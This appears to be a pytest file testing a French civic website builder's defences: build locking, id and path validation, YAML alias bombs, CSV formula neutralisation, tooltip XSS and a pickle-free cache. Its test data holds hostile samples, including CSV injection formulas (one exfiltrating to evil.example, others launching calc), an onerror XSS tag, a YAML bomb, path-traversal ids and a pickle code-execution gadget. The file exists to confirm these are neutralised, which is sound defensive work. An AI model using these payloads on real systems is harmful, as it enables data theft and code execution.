"""Hostile and careless input (issue 13): nothing escapes, nothing goes live, nothing is lost.

One section per class of defect, each with its own hostile data:
1. two builds into one output directory, a killed build, the swap;
2. identifiers that become paths, names and texts with invisible characters or huge lengths;
3. careless files (empty, a directory, links, huge, YAML aliases);
4. text from communes outside the HTML pages (CSV formulas, map tooltips);
5. the cache: data, never code; never inside the site; no inode shared with the output.
The build-level « previous site byte for byte intact » cases are in test_validation.py.
"""

from __future__ import annotations

import functools
import hashlib
import http.server
import io
import json
import os
import pickle
import signal
import subprocess
import sys
import threading
import time
import zipfile
from pathlib import Path

import pytest
from conftest import DEMO_NOW, ROOT, build_site
from label_build import output as output_module
from label_build.output import lock_path, locked, replace_output
from label_data.problems import display_path
from label_data.validate import validate
from label_data.view import typographic
from test_validation import edit, problems_of, write_mini


def run_build(data: Path, output: Path, cache: Path, **env) -> subprocess.Popen:
    return subprocess.Popen(
        [sys.executable, str(ROOT / "scripts/build.py")],
        cwd=ROOT,
        env={
            "DATA": str(data),
            "OUTPUTDIR": str(output),
            "CACHEDIR": str(cache),
            "NOW": DEMO_NOW,
            "PATH": "/usr/bin:/bin",
            **env,
        },
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )


def tree(root: Path) -> dict[str, str]:
    return {
        str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(root.rglob("*"))
        if p.is_file()
    }


# -- 1. Two builds, one output directory ------------------------------------------------------


def wait_for_staging(output: Path, timeout: float = 60) -> None:
    """Until a build into ``output`` holds the lock and writes its staging directory."""
    deadline = time.monotonic() + timeout
    while not list(output.parent.glob(f".{output.name}.en-cours-*")):
        assert time.monotonic() < deadline, "the first build never started writing"
        time.sleep(0.01)


@pytest.mark.parametrize("when", ["au départ", "pendant l’écriture"])
def test_two_builds_into_one_directory_leave_one_complete_site(tmp_path, when):
    data_a = write_mini(tmp_path / "a")
    data_b = write_mini(tmp_path / "b")
    edit(data_b / "territoires/33063.yaml", "nom: Bordeaux", "nom: Bordeaux Rive Droite")
    output = tmp_path / "site"
    first = run_build(data_a, output, tmp_path / "cache-a")
    if when == "au départ":  # both start at once: either may take the lock
        time.sleep(0.3)
    else:  # the second starts while the first holds the lock and writes
        wait_for_staging(output)
    second = run_build(data_b, output, tmp_path / "cache-b")
    (_, err_a), (_, err_b) = first.communicate(timeout=300), second.communicate(timeout=300)
    assert first.returncode == 0, err_a[-2000:]
    assert second.returncode == 0, err_b[-2000:]
    waited = [err for err in (err_a, err_b) if "celle-ci attend qu’elle se termine" in err]
    assert len(waited) == 1, (err_a[-1500:], err_b[-1500:])
    assert "Traceback" not in err_a + err_b
    # The build that waited ran last: its site, whole, and nothing of the other one.
    winner, cache = (data_b, "cache-b") if waited[0] is err_b else (data_a, "cache-a")
    pages = {p.name for p in (output / "territoires").iterdir()}
    expected = "bordeaux-rive-droite-33063" if winner == data_b else "bordeaux-33063"
    assert expected in pages
    assert not {"bordeaux-33063", "bordeaux-rive-droite-33063"} - {expected} & pages
    from label_build.reuse import manifest, record_path

    record = json.loads(record_path(tmp_path / cache, output).read_text())
    assert record["manifest"] == manifest(output)  # exactly the files that build wrote
    leftovers = [p.name for p in tmp_path.iterdir() if p.name.startswith(".site.en-cours")]
    assert leftovers == []


def test_a_build_waits_for_the_lock_and_says_so(tmp_path, capsys):
    output = tmp_path / "site"
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import fcntl, os, sys, time\n"
            "fd = os.open(sys.argv[1], os.O_RDWR | os.O_CREAT)\n"
            "fcntl.flock(fd, fcntl.LOCK_EX)\n"
            "print('pris', flush=True)\n"
            "time.sleep(1.5)\n",
            str(lock_path(output)),
        ],
        stdout=subprocess.PIPE,
        text=True,
    )
    assert holder.stdout.readline().strip() == "pris"
    start = time.monotonic()
    with locked(output):
        waited = time.monotonic() - start
    holder.wait(timeout=10)
    assert waited > 0.5
    assert "Une autre construction écrit déjà dans" in capsys.readouterr().err


def test_the_swap_never_leaves_the_public_path_without_a_site(tmp_path, monkeypatch):
    output = tmp_path / "site"
    output.mkdir()
    (output / "index.html").write_text("0", encoding="utf-8")
    real_rename = os.rename

    def watched_rename(src, dst):  # the public path must hold a site at every step
        assert (output / "index.html").is_file(), (src, dst)
        real_rename(src, dst)

    monkeypatch.setattr(output_module.os, "rename", watched_rename)
    missing: list[int] = []
    stop = threading.Event()

    def reader() -> None:
        while not stop.is_set():
            if not (output / "index.html").is_file():
                missing.append(1)

    thread = threading.Thread(target=reader)
    thread.start()
    try:
        for n in range(1, 60):
            staging = tmp_path / f"staging-{n}"
            staging.mkdir()
            (staging / "index.html").write_text(str(n), encoding="utf-8")
            replace_output(staging, output, wait=True)
    finally:
        stop.set()
        thread.join()
    assert missing == []
    assert (output / "index.html").read_text(encoding="utf-8") == "59"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["site"]  # old sites removed


WORKERS_SCRIPT = """
import os, sys, time
sys.path.insert(0, "plugins")
os.environ["JOBS"] = "2"
from label_infra.parallel import ordered_map

def slow(x):
    time.sleep(120)
    return x

list(ordered_map(slow, range(8)))
"""


def _children(pid: int) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                stat = (entry / "stat").read_text()
            except OSError:
                continue
            if int(stat.rsplit(")", 1)[1].split()[1]) == pid:
                found.append(int(entry.name))
    return found


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


@pytest.mark.skipif(len(os.sched_getaffinity(0)) < 2, reason="workers need two cores")
def test_a_killed_build_leaves_no_worker_behind():
    parent = subprocess.Popen([sys.executable, "-c", WORKERS_SCRIPT], cwd=ROOT)
    deadline = time.monotonic() + 30
    workers: list[int] = []
    while len(workers) < 2 and time.monotonic() < deadline:
        time.sleep(0.1)
        workers = [p for p in _children(parent.pid) if "python" in _cmdline(p)]
    assert len(workers) >= 2, "the pool did not start"
    parent.send_signal(signal.SIGKILL)
    parent.wait()
    deadline = time.monotonic() + 10
    while any(_alive(p) for p in workers) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not any(_alive(p) for p in workers)


def _cmdline(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace")
    except OSError:
        return ""


def test_the_next_build_removes_what_a_killed_build_left(tmp_path):
    data = write_mini(tmp_path / "data")
    output = tmp_path / "site"
    stale = tmp_path / ".site.en-cours-tue"  # a killed build's half-written staging
    (stale / "territoires").mkdir(parents=True)
    (stale / "territoires" / "demi.html").write_text("à moitié", encoding="utf-8")
    assert build_site(output, data=data, cache=tmp_path / "cache") == 0
    assert not stale.exists()
    assert (output / "index.html").is_file()


# -- 2. Identifiers that become paths, names and texts ----------------------------------------


@pytest.fixture
def mini(tmp_path) -> Path:
    return write_mini(tmp_path / "data")


ID_RULE = "minuscules sans accents, chiffres et tirets seulement, 80 caractères au plus"


@pytest.mark.parametrize(
    "enjeu", ["../../../x", "../territoires/paris-75056", "Identite", "a" * 81]
)
def test_an_enjeu_id_that_is_not_a_path_segment_is_refused_at_its_line(mini, enjeu):
    f = edit(mini / "referentiel.yaml", "  - id: identite\n", f'  - id: "{enjeu}"\n')
    lines = problems_of(mini)
    shown = enjeu if len(enjeu) <= 60 else enjeu[:60] + "…"
    assert f"{f}:11:9: l’id « {shown} » invalide : {ID_RULE} (il sert d’adresse de page)" in lines


def test_an_action_id_ending_in_a_newline_is_refused(mini):
    # « ^[a-z0-9-]*$ » matched it: « $ » matches before a final newline.
    f = edit(mini / "actions/33063.yaml", "id: bordeaux-budget", 'id: "bordeaux-budget\\n"')
    assert problems_of(mini) == [
        f"{f}:1:7: l’identifiant d’action contient un caractère de contrôle invisible (U+000A) "
        "en position 16 : supprimez-le (souvent un reste de copier-coller) ; un retour à la "
        "ligne n’y est pas permis non plus"
    ]


@pytest.mark.parametrize(
    ("name", "old", "new", "expected"),
    [
        (
            "actions/33063.yaml",
            "id: bordeaux-budget",
            'id: "bordeaux-budget/../x"',
            f"1:7: l’identifiant d’action « bordeaux-budget/../x » invalide : {ID_RULE}",
        ),
        (
            "palmares/2025.yaml",
            "{id: transition-ecologique,",
            '{id: "Transition écologique",',
            f"4:10: l’id de la mention « Transition écologique » invalide : {ID_RULE}",
        ),
        (
            "referentiel.yaml",
            "{id: vivre-ensemble,",
            '{id: "vivre ensemble",',
            f"6:10: l’id « vivre ensemble » invalide : {ID_RULE}",
        ),
        (
            "referentiel.yaml",
            "  - {id: protection-donnees,",
            '  - {id: "protection-donnees\\t",',
            "61:10: l’id contient un caractère de contrôle invisible (U+0009)",
        ),
    ],
)
def test_every_kind_of_id_has_one_definition(mini, name, old, new, expected):
    f = edit(mini / name, old, new)
    lines = problems_of(mini)
    assert any(line.startswith(f"{f}:") and expected in line for line in lines), lines


@pytest.mark.parametrize(
    ("escape", "code", "kind"),
    [
        ("\\0", "U+0000", "un caractère de contrôle invisible"),
        ("\\v", "U+000B", "un caractère de contrôle invisible"),
        ("\\uFFFE", "U+FFFE", "un caractère interdit (non-caractère Unicode)"),
        ("\\n", "U+000A", "un caractère de contrôle invisible"),
    ],
)
def test_names_refuse_invisible_characters_at_their_line(mini, escape, code, kind):
    f = edit(mini / "territoires/33063.yaml", "nom: Bordeaux", f'nom: "Bor{escape}deaux"')
    assert problems_of(mini) == [
        f"{f}:2:6: nom contient {kind} ({code}) en position 4 : supprimez-le (souvent un "
        "reste de copier-coller) ; un retour à la ligne n’y est pas permis non plus"
    ]


def test_a_description_may_hold_line_breaks_but_no_control_character(mini):
    f = edit(mini / "actions/33063.yaml", '"Vote **en ligne**."', '"Vote\\n\\ten ligne\\x1b[31m"')
    assert problems_of(mini) == [
        f"{f}:3:16: description contient un caractère de contrôle invisible (U+001B) en "
        "position 15 : supprimez-le (souvent un reste de copier-coller)"
    ]


def test_names_and_ids_of_several_hundred_characters_are_refused(mini):
    f = edit(mini / "territoires/33063.yaml", "nom: Bordeaux", "nom: " + "Bordeaux" * 60)
    g = edit(mini / "actions/01001.yaml", "id: abergement-wifi", "id: " + "a" * 300)
    h = edit(mini / "actions/33063.yaml", "titre: Budget participatif", "titre: " + "W" * 5000)
    assert problems_of(mini) == [
        f"{g}:1:7: l’identifiant d’action « {'a' * 60}… » invalide : {ID_RULE} "
        "(il sert d’adresse de page)",
        f"{h}:2:10: titre est trop long (5000 caractères, 200 au plus) : « {'W' * 40}… »",
        f"{f}:2:6: nom est trop long (480 caractères, 200 au plus) : « {('Bordeaux' * 5)}… »",
    ]


def test_a_slug_never_makes_a_file_name_too_long():
    from label_data.view import SLUG_MAX, territory_url

    slug, url = territory_url("北京" * 100, "33063")  # transliteration lengthens names
    assert 0 < len(slug) <= SLUG_MAX and not slug.endswith("-")
    assert len(url.encode()) < 255


# -- 3. Careless files --------------------------------------------------------------------------


def test_empty_and_comment_only_files_are_refused(mini):
    (mini / "palmares/2025.yaml").write_text("", encoding="utf-8")
    (mini / "palmares/2024.yaml").write_text("# à remplir\n\n", encoding="utf-8")
    (mini / "referentiel.yaml").write_text("", encoding="utf-8")
    (mini / "actions/01001.yaml").write_text("  \n", encoding="utf-8")
    shown = {n: display_path(mini / n) for n in ("palmares/2025.yaml", "palmares/2024.yaml")}
    empty = "fichier vide : écrivez son contenu ou supprimez-le"
    nothing = (
        "le fichier ne contient aucune donnée (vide ou seulement des commentaires) : "
        "écrivez son contenu ou supprimez-le"
    )
    lines = problems_of(mini)
    assert f"{shown['palmares/2025.yaml']}:1:1: {empty}" in lines
    assert f"{shown['palmares/2024.yaml']}:1:1: {nothing}" in lines
    assert f"{display_path(mini / 'referentiel.yaml')}:1:1: {empty}" in lines
    assert f"{display_path(mini / 'actions/01001.yaml')}:1:1: {nothing}" in lines


def test_a_directory_a_broken_link_and_a_link_leaving_the_data_are_refused(mini, tmp_path):
    (mini / "territoires/99999.yaml").mkdir()
    (mini / "palmares/2023.yaml").symlink_to(tmp_path / "nulle-part.yaml")
    secret = tmp_path / "secret.yaml"
    secret.write_text((mini / "actions/01001.yaml").read_text(encoding="utf-8"), "utf-8")
    (mini / "actions/01001.yaml").unlink()
    (mini / "actions/01001.yaml").symlink_to(secret)
    inside = mini / "territoires/33063.yaml"
    (mini / "copie").mkdir()
    inside.rename(mini / "copie/33063.yaml")
    inside.symlink_to(mini / "copie/33063.yaml")  # a link inside the data is fine
    lines = problems_of(mini)
    assert lines == [
        f"{display_path(mini / 'actions/01001.yaml')}:1:1: lien symbolique vers un fichier "
        f"hors du dossier de données ({secret}) : copiez le fichier dans le dossier de "
        "données s’il doit être publié",
        f"{display_path(mini / 'palmares/2023.yaml')}:1:1: lien symbolique cassé (vers "
        f"{tmp_path / 'nulle-part.yaml'}) : mettez-y le fichier",
        f"{display_path(mini / 'territoires/99999.yaml')}:1:1: c’est un dossier, pas un "
        "fichier : renommez-le ou déplacez son contenu",
    ]


def test_a_huge_file_is_refused_before_it_is_read(mini):
    edit(mini / "actions/01001.yaml", "titre: Wi-Fi public", "titre: " + "W" * 10_000_000)
    assert problems_of(mini) == [
        f"{display_path(mini / 'actions/01001.yaml')}:1:1: fichier trop gros (10,0\u00a0Mo ; "
        "4\u00a0Mo au plus) : un texte aussi long n’a pas sa place dans les données du site"
    ]


BOMB = """\
a: &a ["x", "x", "x", "x", "x", "x", "x", "x", "x", "x"]
b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]
c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]
d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]
e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d, *d]
f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e, *e]
"""


def test_yaml_aliases_cannot_blow_up_a_small_file(mini):
    f = edit(
        mini / "palmares/2025.yaml", "laureats:\n", "x-bombe:\n" + _indent(BOMB) + "laureats:\n"
    )
    started = time.monotonic()
    lines = problems_of(mini)
    assert time.monotonic() - started < 5
    assert len(lines) == 1 and lines[0].startswith(f"{f}:7:10: des alias (*) qui ajoutent ")
    assert "éléments une fois dépliés (10000 au plus) : recopiez les valeurs" in lines[0]


def test_a_recursive_alias_is_refused(mini):
    f = edit(mini / "palmares/2025.yaml", "laureats:\n", "x-boucle: &moi [1, *moi]\nlaureats:\n")
    assert problems_of(mini) == [
        f"{f}:5:20: un alias qui se contient lui-même : recopiez les valeurs plutôt que "
        "d’utiliser des ancres et des alias YAML"
    ]


def _indent(text: str) -> str:
    return "".join(f"  {line}\n" for line in text.splitlines())


def test_a_few_harmless_aliases_are_still_fine(mini):
    edit(mini / "palmares/2025.yaml", "laureats:\n", "x-note: &n court\nx-rappel: *n\nlaureats:\n")
    assert problems_of(mini) == []


def test_a_file_name_with_invisible_characters_is_printed_spelled_out(mini):
    (mini / "territoires/33063.yaml").rename(mini / "territoires/33063\x0b.yaml")
    _, problems = validate(mini)
    text = "\n".join(problems.lines())
    assert "33063<U+000B>.yaml" in text and "\x0b" not in text


def test_a_pipe_in_the_data_directory_does_not_block_the_build(tmp_path):
    data = write_mini(tmp_path / "data")
    os.mkfifo(data / "notes")  # not a data file: ignored, but never read either
    build = run_build(data, tmp_path / "site", tmp_path / "cache")
    try:
        _, err = build.communicate(timeout=120)
    finally:
        build.kill()
    assert build.returncode == 0, err[-2000:]


# -- 4. Text from communes outside the HTML pages ----------------------------------------------

FORMULAS = {
    "nom": '=HYPERLINK("http://evil.example/?d="&A1;"Bordeaux")',
    "titre": "@SUM(1+1)*cmd|' /C calc'!A0",
    "epci": "-2+3+cmd|' /C calc'!A0",
}
HOSTILE_NAME = '<img src=x onerror="window.__pwned=1">Bordeaux'


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    """The mini dataset with formulas and markup in the names communes write, built once."""
    base = tmp_path_factory.mktemp("hostile")
    data = write_mini(base / "data")
    names = {
        "territoires/33063.yaml": ("nom: Bordeaux", f"nom: {json.dumps(HOSTILE_NAME)}"),
        "territoires/01001.yaml": (
            "type: village",
            f"type: village\nnom: {json.dumps(FORMULAS['nom'])}",
        ),
        "territoires/243300316.yaml": (
            "type: territoire",
            f"type: territoire\nnom: {json.dumps(FORMULAS['epci'])}",
        ),
        "actions/33063.yaml": (
            "titre: Budget participatif",
            f"titre: {json.dumps(FORMULAS['titre'])}",
        ),
    }
    for name, (old, new) in names.items():
        edit(data / name, old, new)
    output, cache = base / "output", base / "cache"
    assert build_site(output, data=data, cache=cache) == 0
    return output, cache


def _csv_cells(data: bytes) -> list[str]:
    import csv

    return [c for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for c in row]


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised_everywhere(hostile_site):
    output, _ = hostile_site
    csvs = {str(p.relative_to(output)): p.read_bytes() for p in output.glob("donnees/*.csv")}
    for year in (2024, 2025):
        kit = zipfile.ZipFile(output / f"kits/{year}/dossier-national-{year}.zip")
        for name in (f"palmares-{year}.csv", f"chiffres-{year}.csv"):
            csvs[f"kit/{name}"] = kit.read(f"dossier-national-{year}/{name}")
    # palmarès 2024 and 2025, actions, figures; two in each national kit
    assert len(csvs) == 8, sorted(csvs)
    cells = {name: _csv_cells(data) for name, data in csvs.items()}
    for name, found in cells.items():
        dangerous = [c for c in found if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert dangerous == [], (name, dangerous)
    # Names are printed with the French apostrophe; the neutralising one stays ASCII.
    shown = {k: "'" + typographic(v) for k, v in FORMULAS.items()}
    assert shown["nom"] in cells["donnees/palmares-2024.csv"]
    assert shown["nom"] in cells["kit/palmares-2024.csv"]
    assert shown["epci"] in cells["kit/palmares-2025.csv"]
    assert "'" + FORMULAS["titre"] in cells["donnees/actions.csv"]
    package = json.loads((output / "donnees/datapackage.json").read_text(encoding="utf-8"))
    assert "précédés d’une apostrophe (')" in package["description"]


def test_numbers_keep_their_sign_in_csv():
    from label_opendata.files import csv_bytes

    assert csv_bytes([["-0.57", -0.57, 3, "=1+1", "a-b"]]) == b"'-0.57,-0.57,3,'=1+1,a-b\r\n"


@pytest.mark.browser
def test_map_tooltips_show_names_as_text(hostile_site, browser):
    from conftest import _QuietHandler

    output, _ = hostile_site
    handler = functools.partial(_QuietHandler, directory=str(output))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    tab = browser.new_page()
    try:
        tab.goto(f"http://127.0.0.1:{server.server_port}/")
        tab.click(".carte-explorer")
        tab.wait_for_selector("figure.carte-interactive")
        hostile = f'.marqueur[aria-label*="{HOSTILE_NAME[:9]}"]'
        # Close points share a numbered button, whose click zooms in on them: zoom until the
        # hostile name has a marker of its own, as a visitor would.
        for _ in range(8):
            if tab.locator(hostile).count():
                break
            tab.locator(".marqueur-grappe").first.click()
            tab.wait_for_timeout(400)
        tab.focus(hostile)
        tooltip = tab.wait_for_selector(".leaflet-tooltip")
        assert HOSTILE_NAME in tooltip.text_content()
        assert tooltip.query_selector("img") is None
        assert tab.evaluate("() => window.__pwned") is None
    finally:
        tab.close()
        server.shutdown()


# -- 5. The cache -------------------------------------------------------------------------------


class _Planted:
    def __reduce__(self):
        return (Path.touch, (Path(os.environ["PLANTED_MARK"]),))


def test_a_file_planted_in_the_cache_never_runs(tmp_path, monkeypatch):
    from label_data import sanitize

    mark = tmp_path / "code-execute"
    monkeypatch.setenv("PLANTED_MARK", str(mark))
    planted = pickle.dumps({"x": _Planted()})
    folder = tmp_path / "markdown"
    folder.mkdir()
    for suffix in ("json", "pickle"):
        (folder / f"{sanitize._VERSION}.{suffix}").write_bytes(planted)
    assert sanitize.sanitize_all(["**gras**"], tmp_path) == ["<p><strong>gras</strong></p>"]
    assert not mark.exists()
    pickle.loads(planted)  # what the old cache did: the planted file runs its code
    assert mark.exists()
    # Nothing in the build loads a format that can name code to run.
    for path in (ROOT / "plugins").rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        for word in ("import pickle", "import marshal", "import shelve", "import dill"):
            assert word not in text, (path, word)


def test_cached_html_of_the_wrong_shape_is_ignored(tmp_path):
    from label_data import sanitize

    (tmp_path / "markdown").mkdir()
    (tmp_path / "markdown" / f"{sanitize._VERSION}.json").write_text('["pas", "un", "objet"]')
    assert sanitize.sanitize_all(["*a*"], tmp_path) == ["<p><em>a</em></p>"]


@pytest.mark.parametrize("where", ["content/cache", "theme/static/cache", "OUTPUT/cache"])
def test_a_cachedir_inside_the_site_is_refused(tmp_path, mini, capsys, where):
    output = tmp_path / "site"
    output.mkdir()
    (output / "index.html").write_text("ancien site", encoding="utf-8")
    cache = output / "cache" if where.startswith("OUTPUT") else ROOT / where
    assert build_site(output, data=mini, cache=cache) == 2
    err = capsys.readouterr().err
    assert f"CACHEDIR={cache} est dans " in err
    assert "le cache contient les kits préparés sous embargo, qui seraient publiés" in err
    assert "Le site précédent" in err and "Traceback" not in err
    assert sorted(p.name for p in output.iterdir()) == ["index.html"]
    assert not cache.exists()


def test_output_files_are_world_readable_and_share_no_inode_with_the_cache(hostile_site):
    output, cache = hostile_site
    cached = {(p.stat().st_dev, p.stat().st_ino) for p in cache.rglob("*") if p.is_file()}
    files = [p for p in output.rglob("*") if p.is_file()]
    assert any(p.suffix == ".zip" for p in files)
    assert [p for p in files if (p.stat().st_dev, p.stat().st_ino) in cached] == []
    assert {oct(p.stat().st_mode & 0o777) for p in files} == {"0o644"}
    dirs = [output, *(p for p in output.rglob("*") if p.is_dir())]
    assert {oct(p.stat().st_mode & 0o777) for p in dirs} == {"0o755"}
    # Editing a published kit changes nothing in the cache.
    before = tree(cache)
    kit = next(p for p in output.glob("kits/2025/*.zip") if "national" not in p.name)
    kit.write_bytes(b"modifie")
    assert tree(cache) == before
